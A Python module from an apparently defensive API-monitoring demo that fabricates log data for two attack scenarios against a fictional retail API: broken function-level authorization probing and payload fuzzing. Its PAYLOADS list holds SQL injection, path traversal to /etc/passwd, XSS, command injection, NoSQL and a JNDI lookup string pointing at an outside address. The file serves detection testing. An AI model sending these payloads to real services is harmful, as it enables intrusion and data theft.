"""Scenarios that probe the retail API: for functions a customer may not call, and for
inputs that break it."""

from __future__ import annotations

from urllib.parse import quote

import numpy as np
import polars as pl

from apisight.demo import bank
from apisight.demo.endpoints import index_of
from apisight.demo.population import Population
from apisight.demo.scenarios.base import R, Scenario, as_customer, at, only_where, spread

BFLA_UA = "PostmanRuntime/7.39.0"
#: What the customer tries, what the gateway answers, and how often (fewest, most).
BFLA_PROBES = (
    ("GET", "/admin/v1/users", 403, 5, 10),
    ("POST", "/admin/v1/feature-flags/{flag_slug}", 403, 4, 8),
    ("GET", "/internal/v1/customers/{customer_id}", 404, 9, 15),
    ("GET", "/actuator/env", 404, 2, 4),
    ("GET", "/actuator/heapdump", 404, 1, 3),
    ("GET", "/debug/vars", 404, 2, 4),
    ("DELETE", "/v2/accounts/{account_id}", 405, 6, 12),
    ("PATCH", "/v2/accounts/{account_id}", 405, 3, 6),
    ("PUT", "/v2/cards/{card_id}", 405, 4, 8),
)

FUZZ_IP = "198.51.100.150"
FUZZ_UAS = ("Fuzz Faster U Fool v2.1.0-dev", "sqlmap/1.8.3#stable (https://sqlmap.org)")
#: Injection and overflow payloads a fuzzer sends, raw (they are URL-encoded on the wire).
PAYLOADS = (
    "' OR 1=1--", "1' OR '1'='1", "1; DROP TABLE accounts--", "1 UNION SELECT username,password FROM users--",
    "1' AND SLEEP(5)--", "../../etc/passwd", "../../../../windows/win.ini", "....//....//etc/passwd",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "${jndi:ldap://198.51.100.150:1389/a}",
    "{{7*7}}", "${7*7}", "; cat /etc/passwd", "$(id)", "|id", '{"$ne":null}', "\x00", "-1",
    "99999999999999999999999", "NaN", "A" * 4096,
)
#: Query parameters no endpoint defines.
ODD_PARAMS = (
    ("debug", "true"), ("admin", "1"), ("__proto__[isAdmin]", "true"), ("page[$ne]", "1"), ("limit", "-1"),
    ("fields", "*"), ("include", "password_hash"), ("callback", "alert(1)"), ("_method", "DELETE"),
)
#: (path prefix or endpoint, where the payload goes, statuses, their weights, user agent).
_FUZZ_TARGETS = (
    ("/v2/accounts/{account_id}", "path", (400, 404, 500, 401), (0.6, 0.2, 0.12, 0.08), 0),
    ("/v2/merchants/{merchant_slug}", "path", (404, 400, 500, 401), (0.75, 0.15, 0.05, 0.05), 0),
    ("/v2/payments/{payment_id}", "path", (400, 404, 500, 401), (0.55, 0.3, 0.1, 0.05), 0),
    ("/v2/accounts/{account_id}/transactions", "query", (422, 400, 500, 401), (0.55, 0.25, 0.12, 0.08), 1),
    ("/v2/notifications", "param", (400, 422, 500, 401), (0.6, 0.25, 0.05, 0.1), 1),
)


def bfla_probing(pop: Population, rng: np.random.Generator) -> tuple[Scenario, pl.DataFrame]:
    """A customer with a valid token calling admin, internal and debug functions and forbidden methods."""
    cust = int(rng.integers(0, pop.n_customers))
    cid = int(pop.customers["customer_id"][cust])
    counts = np.array([rng.integers(lo, hi + 1) for *_, lo, hi in BFLA_PROBES])
    probe = rng.permutation(np.repeat(np.arange(len(BFLA_PROBES)), counts))
    checks = [index_of(R, "GET", "/v2/customers/me"), index_of(R, "GET", "/v2/accounts")]
    probe_ep = np.array([index_of(R, m, p) for m, p, *_ in BFLA_PROBES])[probe]
    half = len(probe) // 2  # the token is checked first and once more half-way
    ep = np.concatenate([checks, probe_ep[:half], checks, probe_ep[half:]])
    status = np.concatenate([[200, 200], np.array([s for _, _, s, *_ in BFLA_PROBES])[probe[:half]], [200, 200],
                             np.array([s for _, _, s, *_ in BFLA_PROBES])[probe[half:]]])
    n = len(ep)
    ts = spread(rng, n, at(2, 19.25), at(2, 19.5))
    who = np.full(n, cust)
    others = rng.integers(0, pop.n_customers, n)  # whose records the probes ask for
    paths = {(m, p) for m, p, *_ in BFLA_PROBES}
    internal = index_of(R, "GET", "/internal/v1/customers/{customer_id}")
    accounts = [index_of(R, m, "/v2/accounts/{account_id}") for m in ("DELETE", "PATCH")]  # own or others'
    meta = Scenario("bfla_probing", "bfla", f"Customer {cid}, with a valid token, calls back-office, internal and "
                    "debug functions and unsupported methods on the retail API for 15 minutes; nearly all "
                    "answer 403/404/405.", R, "principal", str(cid),
                    tuple(sorted(f"{m} {p}" for m, p in paths)), "alert")
    return meta, pl.DataFrame({
        "ts": ts, "ep": ep, "cust": who, "status": status, **as_customer(pop, ts, who, ep), "user_agent": BFLA_UA,
        "referer": None,
        "customer_id": only_where(ep == internal, pop.customers["customer_id"].to_numpy()[others]),
        "account_id": only_where(np.isin(ep, accounts) & (rng.random(n) < 0.7),
                                 pop.customers["account_id"].to_numpy()[others])})


def _fuzz_request(target: int, payload: str, odd: tuple[str, str]) -> tuple[str | None, str | None]:
    """(path, query) overrides for one fuzzing request, URL-encoded as the client sends them."""
    template, where, *_ = _FUZZ_TARGETS[target]
    value = quote(payload, safe="")
    if where == "path":
        return template.rsplit("/", 1)[0] + "/" + value, None
    if where == "query":
        return None, f"page={value}&limit=50"
    name, odd_value = odd
    return None, f"page=1&limit=50&{quote(name, safe='')}={quote(odd_value, safe='')}&q={value}"


def error_probing(pop: Population, rng: np.random.Generator) -> tuple[Scenario, pl.DataFrame]:
    """One address fuzzing a few retail endpoints with injection payloads: mostly 4xx, some 500."""
    n = 300
    weights = np.array([0.3, 0.2, 0.1, 0.25, 0.15])
    target = rng.choice(len(_FUZZ_TARGETS), n, p=weights)
    payload = rng.integers(0, len(PAYLOADS), n)
    odd = rng.integers(0, len(ODD_PARAMS), n)
    overrides = [_fuzz_request(int(t), PAYLOADS[p], ODD_PARAMS[o]) for t, p, o in zip(target, payload, odd,
                                                                                      strict=True)]
    status = np.empty(n, dtype=np.int64)
    for t, (_, _, codes, probs, _) in enumerate(_FUZZ_TARGETS):
        here = target == t
        status[here] = rng.choice(codes, int(here.sum()), p=probs)
    auth = np.array(["", "Bearer undefined", "Bearer null"])[rng.choice(3, n, p=[0.6, 0.25, 0.15])]
    ts = spread(rng, n, at(1, 10.1), at(1, 10.1) + 10 * 60 * bank.US)
    meta = Scenario("error_probing", "error_probing", f"{FUZZ_IP} fuzzes five retail endpoints for 10 minutes "
                    "with SQL, path-traversal, script, JNDI and overflow payloads in paths and query strings, "
                    "without a valid token; answers are 400/404/422 and some 500.", R, "ip", FUZZ_IP,
                    tuple(f"GET {t[0]}" for t in _FUZZ_TARGETS), "alert")
    return meta, pl.DataFrame({
        "ts": ts, "ep": np.array([index_of(R, "GET", t[0]) for t in _FUZZ_TARGETS])[target],
        "cust": rng.integers(0, pop.n_customers, n), "status": status, "client_ip": FUZZ_IP,
        "user_agent": np.array(FUZZ_UAS)[np.array([t[4] for t in _FUZZ_TARGETS])[target]],
        "authorization": only_where(auth != "", auth),
        "path": pl.Series([p for p, _ in overrides], dtype=pl.String),
        "query": pl.Series([q for _, q in overrides], dtype=pl.String)})
